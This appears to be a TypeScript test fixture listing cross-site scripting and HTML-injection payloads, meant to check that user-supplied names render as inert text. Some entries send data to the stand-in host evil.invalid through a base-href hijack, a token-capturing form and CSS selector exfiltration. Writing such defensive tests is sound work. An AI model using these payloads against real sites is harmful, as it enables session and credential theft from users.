/** What somebody may write into a name to have it run: shown as it stands, it is only a strange name. */
export const HOSTILE_TEXTS = [
  '<script>window.pwned=1</script>',
  '<svg/onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<a href="javascript:window.pwned=1">x</a>',
  '<base href=//evil.invalid>',
  '<form action=//evil.invalid><input name=token></form>',
  '<style>input[value^=a]{background:url(//evil.invalid/a)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '" autofocus onfocus=window.pwned=1 x="',
  '<!--<img src="--><img src=x onerror=window.pwned=1>//">',
  '&lt;script&gt;',
  "{{ $emit('x') }}",
  '<form id=ipc><input name=send></form>',
  'data:text/html;base64,PHNjcmlwdD4=',
  '<img srcset="https://evil.invalid/canary 1x">',
] as const
